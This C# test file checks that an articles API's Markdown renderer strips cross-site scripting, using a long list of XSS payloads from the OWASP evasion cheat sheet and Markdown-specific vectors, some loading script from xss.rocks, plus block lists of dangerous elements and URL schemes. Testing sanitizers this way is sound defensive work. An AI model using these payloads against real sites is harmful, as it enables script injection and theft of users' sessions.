using System.Net;
using AngleSharp.Html.Parser;
using ArticlesApi.Domain;
using ArticlesApi.Tests.Infrastructure;

namespace ArticlesApi.Tests.Features.Articles;

/// OWASP's XSS filter-evasion cheat sheet, plus Markdown-specific vectors (links, images, reference
/// definitions, autolinks, Markdig's generic attributes): none may leave script in `html`.
public sealed class XssTests(ApiFactory api)
{
    public static TheoryData<string> Payloads => new(
        // OWASP filter-evasion cheat sheet (raw HTML).
        "<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>",
        "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
        "<IMG SRC=# onmouseover=\"alert('xxs')\">",
        "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
        "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
        "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
        "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
        "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
        "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
        "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
        "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
        "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
        "<iframe src=http://xss.rocks/scriptlet.html <",
        "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
        "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
        "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
        "<IMG DYNSRC=\"javascript:alert('XSS')\">",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
        "<svg/onload=alert('XSS')>",
        "<BGSOUND SRC=\"javascript:alert('XSS');\">",
        "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
        "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K\">",
        "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
        "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
        "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
        "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
        "<DIV STYLE=\"width: expression(alert('XSS'));\">",
        "<BASE HREF=\"javascript:alert('XSS');//\">",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
        "<form action=\"javascript:alert(1)\"><button>go</button></form>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<details open ontoggle=alert(1)>",
        // Markdown links and images.
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](javascript&#58;alert(1))",
        "[click](&#x6A;avascript:alert(1))",
        "[click]( javascript:alert(1))",
        "[click](<javascript:alert(1)>)",
        "[click](vbscript:msgbox(1))",
        "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "![img](javascript:alert(1))",
        "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "[ref][1]\n\n[1]: javascript:alert(1)",
        "[ref][x]\n\n[x]: data:text/html,<script>alert(1)</script> \"title\"",
        "<javascript:alert(1)>",
        "[a](http://example.org \"\\\" onmouseover=\\\"alert(1)\")",
        "![a](http://example.org/x.png\" onerror=\"alert(1))",
        "[a](http://example.org/\"onmouseover=\"alert(1))",
        "[<img src=x onerror=alert(1)>](http://example.org)",
        "![<svg onload=alert(1)>](http://example.org/x.png)",
        // Markdig extensions: generic attributes, footnotes, abbreviations, tables.
        "# Title {onclick=\"alert(1)\"}",
        "[a](http://example.org){onmouseover=alert(1)}",
        "Paragraph {style=\"background:url(javascript:alert(1))\" onfocus=alert(1) autofocus tabindex=1}",
        "![a](http://example.org/x.png){onerror=alert(1)}",
        "Text[^1]\n\n[^1]: <script>alert(1)</script>[x](javascript:alert(1))",
        "*[HTML]: <img src=x onerror=alert(1)>\n\nHTML here",
        "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
        "```html\n<script>alert(1)</script>\n```",
        "<div markdown=\"1\">[x](javascript:alert(1))</div>");

    static readonly HashSet<string> ForbiddenElements =
        ["script", "iframe", "frame", "frameset", "object", "embed", "form", "input", "button", "textarea", "select", "style",
         "link", "meta", "base", "svg", "math", "bgsound", "applet", "noscript", "template"];

    static readonly string[] UrlAttributes = ["href", "src", "action", "formaction", "background", "dynsrc", "lowsrc", "xlink:href", "data", "poster", "srcset"];

    /// What a browser would run, looked for in the parsed DOM (not in the text, where an escaped
    /// "&lt;script&gt;" is harmless).
    static void ShouldBeSafe(string html)
    {
        var document = new HtmlParser().ParseDocument($"<body>{html}</body>");
        foreach (var element in document.Body!.QuerySelectorAll("*"))
        {
            ForbiddenElements.ShouldNotContain(element.LocalName, html);
            foreach (var attribute in element.Attributes)
            {
                attribute.LocalName.ShouldNotStartWith("on", Case.Insensitive, html);
                var value = new string(attribute.Value.Where(c => !char.IsWhiteSpace(c) && !char.IsControl(c)).ToArray()).ToLowerInvariant();
                if (UrlAttributes.Contains(attribute.LocalName))
                    value.ShouldSatisfyAllConditions(html,
                        v => v.ShouldNotStartWith("javascript:"), v => v.ShouldNotStartWith("vbscript:"), v => v.ShouldNotStartWith("data:"));
                if (attribute.LocalName == "style")
                    value.ShouldSatisfyAllConditions(html, v => v.ShouldNotContain("javascript:"), v => v.ShouldNotContain("expression("));
            }
        }
    }

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Payload_Never_Survives_Rendering(string payload)
    {
        ShouldBeSafe(ArticleBody.FromMarkdown(payload).Html);
        ShouldBeSafe(ArticleBody.FromMarkdown($"Intro paragraph.\n\n{payload}\n\nOutro.").Html);
    }

    [Fact]
    public async Task Every_Payload_Written_Through_The_Api_Comes_Back_Safe()
    {
        var editor = await api.EditorAsync();
        var author = (await editor.NewAuthorIdAsync()).ToString();
        var markdown = string.Join("\n\n", Payloads.Select(p => p.Data));

        var response = await editor.Client.PostJsonAsync("/api/v1/articles", Requests.Article(author).With("body", new { markdown }));

        response.StatusCode.ShouldBe(HttpStatusCode.Created);
        ShouldBeSafe((await response.JsonAsync()).GetProperty("body").GetProperty("html").GetString()!);
    }

    [Theory]
    [InlineData("<a href=\" JaVa\tScript:alert(1)\">x</a>")]
    [InlineData("<p onclick=\"alert(1)\">x</p>")]
    [InlineData("<img src=\"data:image/svg+xml,x\">")]
    [InlineData("<iframe></iframe>")]
    [InlineData("<div style=\"width: expression(alert(1))\">x</div>")]
    public void The_Check_Itself_Catches_Unsafe_Html(string html) =>
        Should.Throw<ShouldAssertException>(() => ShouldBeSafe(html));

    [Fact]
    public void Safe_Markdown_Keeps_Its_Formatting()
    {
        var html = ArticleBody.FromMarkdown("## Head\n\n**bold** [link](https://example.org) ![alt](https://example.org/i.png)\n\n| a |\n|---|\n| b |").Html;
        html.ShouldContain("<h2");
        html.ShouldContain("<strong>bold</strong>");
        html.ShouldContain("href=\"https://example.org\"");
        html.ShouldContain("src=\"https://example.org/i.png\"");
        html.ShouldContain("<table>");
    }
}
